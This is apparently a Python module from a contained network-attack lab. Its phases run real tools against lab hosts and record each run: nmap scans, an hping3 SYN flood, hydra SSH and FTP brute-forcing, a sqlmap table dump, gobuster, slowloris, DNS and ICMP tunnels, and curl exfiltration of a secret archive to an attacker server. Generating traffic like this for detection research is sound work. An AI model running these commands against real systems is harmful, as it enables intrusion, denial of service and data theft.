"""Attack phases: real tools run from the attacker namespaces, each bounded in time, each
recorded in the ledger with its exact command, start, end and exit status.

A phase that cannot run (tool missing, tunnel never came up) is recorded with the reason,
never dropped silently.
"""

from __future__ import annotations

import shlex
import shutil
import subprocess
import time
from dataclasses import dataclass, field
from pathlib import Path

from .services import HERE, LAB_PASSWORD, LAB_USER, PY, TUNNEL_DOMAIN, ip_of
from .topology import Topology, terminate

WEB, FILES = ip_of("web"), ip_of("files")
A1, A2 = ip_of("attacker1"), ip_of("attacker2")
SCAN_TARGETS = "10.77.0.10,11,25,30,40"
TUNNEL_NET, TUNNEL_SERVER = "10.99.0.1/24", "10.99.0.1"


@dataclass
class Phase:
    family: str
    tool: str
    attacker: str                  # namespace the attack command runs in
    target: str
    command: str                   # bash, run in the attacker's namespace
    timeout: float
    hosts: list[str] = field(default_factory=list)    # attacker addresses this phase uses
    setup: list[tuple[str, list[str]]] = field(default_factory=list)  # (ns, argv) daemons
    ready: str | None = None       # bash test (in `attacker`) that must pass before command


def wordlists(run: Path) -> None:
    common = ["123456", "password", "12345678", "qwerty", "abc123", "letmein", "monkey",
              "dragon", "111111", "baseball", "iloveyou", "trustno1", "sunshine", "master",
              "welcome", "shadow", "ashley", "football", "jesus", "michael", "ninja",
              "mustang", "admin", "root", "toor", "changeme", "secret", "passw0rd", "pass123"]
    pw = [*common, *(f"{w}{i}" for w in ("summer", "winter", "spring", "autumn") for i in
                     range(2015, 2026)), *(f"Lab{i:03d}!" for i in range(40))]
    pw.insert(len(pw) - 10, LAB_PASSWORD)
    (run / "passwords.txt").write_text("\n".join(pw) + "\n")
    (run / "passwords-short.txt").write_text("\n".join([*pw[:40], LAB_PASSWORD]) + "\n")
    # CI/sample: few guesses, so hydra finds the password well inside its limit on a busy box
    (run / "passwords-tiny.txt").write_text("\n".join([*pw[:12], LAB_PASSWORD]) + "\n")
    (run / "users.txt").write_text("\n".join(["admin", "root", "ftp", "test", "guest",
                                              LAB_USER]) + "\n")


def phases(run: Path, small: bool = False) -> dict[str, Phase]:
    """Every attack family; small=True gives short, small-capture versions (CI, sample)."""
    wordlists(run)
    ports = "1-200" if small else "1-1024"
    targets = "10.77.0.10,11" if small else SCAN_TARGETS
    web_app = f"http://{WEB}/app/item?id=1"
    ph = [
        Phase("nmap_syn_scan", "nmap", "attacker1", targets,
              f"nmap -sS -n -T4 --max-retries 1 -p {ports} {targets}", 120, [A1]),
        Phase("nmap_service_scan", "nmap", "attacker1", SCAN_TARGETS,
              "nmap -n -T4 -sS -sU -sV -sC --host-timeout 100s "
              f"-p T:21,22,25,80,1883,6379,U:53,123,161 {SCAN_TARGETS},53", 150, [A1]),
        Phase("syn_flood", "hping3", "attacker2", f"{WEB}:80",
              f"hping3 -q -S -p 80 -i u2000 -c {500 if small else 3000} {WEB}", 60, [A2]),
        Phase("ssh_bruteforce", "hydra", "attacker1", f"{FILES}:22",
              f"hydra -l {LAB_USER} -P {run}/passwords{'-tiny' if small else ''}.txt "
              f"-t 4 -f -I -q ssh://{FILES}", 90 if small else 150, [A1]),
        Phase("ftp_bruteforce", "hydra", "attacker2", f"{FILES}:21",
              f"hydra -L {run}/users.txt -P {run}/passwords-short.txt -t 4 -f -I -q "
              f"ftp://{FILES}", 120, [A2]),
        Phase("sql_injection", "sqlmap", "attacker1", web_app,
              f"HOME={run}/sqlmap-home sqlmap -u {shlex.quote(web_app)} --batch "
              f"--flush-session --output-dir={run}/sqlmap --level {1 if small else 2} --risk 1 "
              f"--threads 2 --dbms=SQLite {'--technique=BU' if small else ''} --tables --dump "
              "-T users", 90 if small else 240, [A1]),
        Phase("dir_bruteforce", "gobuster", "attacker2", f"http://{WEB}/",
              f"gobuster dir -q -z -u http://{WEB}/ -w /usr/share/dirb/wordlists/"
              f"{'small' if small else 'common'}.txt -t 8 --timeout 5s", 120, [A2]),
        Phase("slowloris", "slowhttptest", "attacker1", f"http://{WEB}/",
              f"slowhttptest -H -c {60 if small else 400} -r {30 if small else 100} -i 10 "
              f"-l {30 if small else 60} -x 24 -p 3 -u http://{WEB}/", 100, [A1]),
        Phase("dns_tunnel", "iodine", "attacker1", f"{ip_of('dns')} -> {A2} ({TUNNEL_DOMAIN})",
              f"curl -s -o /dev/null --max-time 150 {'-r 0-40000' if small else ''} "
              f"http://{TUNNEL_SERVER}:8081/tunnel-file.bin", 200, [A1, A2],
              setup=[("attacker2", ["iodined", "-f", "-c", "-P", "labtunnel", "-l", A2,
                                    TUNNEL_NET, TUNNEL_DOMAIN]),
                     ("attacker2", ["bash", "-c", "for i in $(seq 30); do ip addr show dns0 "
                                    f"2>/dev/null | grep -q {TUNNEL_SERVER} && break; sleep 1;"
                                    f" done; exec {PY} -m http.server --bind {TUNNEL_SERVER} "
                                    f"--directory {run} 8081"]),
                     ("attacker1", ["iodine", "-f", "-r", "-P", "labtunnel", ip_of("dns"),
                                    TUNNEL_DOMAIN])],
              ready=f"timeout 8 curl -s -o /dev/null http://{TUNNEL_SERVER}:8081/"),
        Phase("icmp_tunnel", "ptunnel-ng", "attacker1", f"{A2} -> {WEB}:80",
              f"for i in 1 2 3; do curl -s -o /dev/null --max-time 40 "
              f"http://127.0.0.1:8022/files/file-{8192 if small else 262144}.bin; done", 150,
              [A1, A2],
              setup=[("attacker2", ["ptunnel-ng", "-v", "1", f"-r{WEB}", "-R80"]),
                     ("attacker1", ["ptunnel-ng", "-v", "1", f"-p{A2}", "-l8022", f"-r{WEB}",
                                    "-R80"])],
              ready="timeout 3 bash -c '</dev/tcp/127.0.0.1/8022'"),
        Phase("http_exfiltration", "curl", "attacker1", f"http://{A2}:8080/upload",
              f"head -c {'200k' if small else '1M'} {run}/secret.tar | split -b 64k -d - "
              f"{run}/exfil-part-; for f in {run}/exfil-part-*;"
              f" do curl -s -o /dev/null -F file=@$f http://{A2}:8080/upload; sleep 2; done",
              60, [A1, A2],
              setup=[("attacker2", [PY, str(HERE / "webapp.py"), "--db",
                                    str(run / "sink.sqlite"), "--host", A2, "--port", "8080",
                                    "--uploads", str(run / "exfil-received")])],
              ready=f"timeout 3 bash -c '</dev/tcp/{A2}/8080'"),
    ]
    return {p.family: p for p in ph}


def run_phase(topo: Topology, p: Phase, log_dir: Path) -> dict:
    """Runs one phase; returns its ledger entry (also when it could not run)."""
    entry = {"phase": p.family, "tool": p.tool, "attacker": topo.hosts[p.attacker].ip,
             "attacker_hosts": p.hosts, "target": p.target, "command": p.command}
    if shutil.which(p.tool) is None:
        entry.update(status="not run", reason=f"{p.tool} is not installed")
        return entry
    daemons = []
    entry["start"] = time.time()
    for ns, argv in p.setup:
        daemons.append(topo.spawn(ns, argv, log=str(log_dir / f"{p.family}-setup.log")))
        time.sleep(1.0)
    if p.ready:
        ready, deadline = False, time.time() + 45
        while not ready and time.time() < deadline:
            ready = topo.run(p.attacker, ["bash", "-c", p.ready], timeout=15).returncode == 0
            if ready or any(d.poll() is not None for d in daemons):
                break
            time.sleep(1.0)
        if not ready:
            terminate(daemons)
            setup_log = log_dir / f"{p.family}-setup.log"
            entry.update(end=time.time(), status="not run",
                         reason=f"setup never became ready ({setup_log.name}): "
                                + _tail(setup_log))
            return entry
    try:
        # cwd: the run's work dir (hydra leaves a restore file where it runs)
        r = topo.run(p.attacker, ["timeout", "-k", "5", str(int(p.timeout)), "bash", "-c",
                                  p.command], timeout=p.timeout + 30, cwd=str(log_dir.parent))
        rc, out = r.returncode, r.stdout + r.stderr
    except subprocess.TimeoutExpired:
        rc, out = 124, ""
    entry["end"] = time.time()
    terminate(daemons)
    (log_dir / f"{p.family}.log").write_text(out)
    entry["exit_status"] = rc
    entry["status"] = "ran" if rc == 0 else \
        ("stopped at its time limit" if rc == 124 else f"ran, exit status {rc}")
    return entry


def _tail(path: Path, n: int = 300) -> str:
    try:
        return path.read_text(errors="replace")[-n:].replace("\n", " | ")
    except OSError:
        return ""
